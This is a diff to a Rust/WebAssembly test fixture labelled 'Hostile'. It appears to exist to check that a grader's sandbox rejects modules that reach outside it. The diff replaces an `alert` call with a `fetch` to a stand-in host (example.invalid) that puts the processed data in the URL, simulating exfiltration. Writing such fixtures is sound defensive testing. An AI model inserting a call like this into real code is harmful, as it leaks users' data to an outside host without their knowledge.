@@ -1,15 +1,16 @@
-//! Hostile: calls JavaScript's `alert`, which needs a browser
+//! Hostile: tries to send the data out with JavaScript's `fetch`, which the grader does not
+//! provide
 
 use wasm_bindgen::prelude::*;
 
 #[wasm_bindgen]
 extern "C" {
-    fn alert(s: &str);
+    fn fetch(url: &str) -> JsValue;
 }
 
 #[wasm_bindgen]
 pub fn invert(data: &[u8]) -> Vec<u8> {
-    alert("inverting");
+    let _ = fetch(&format!("https://example.invalid/?d={data:?}"));
     data.iter().map(|b| 255 - b).collect()
 }
 
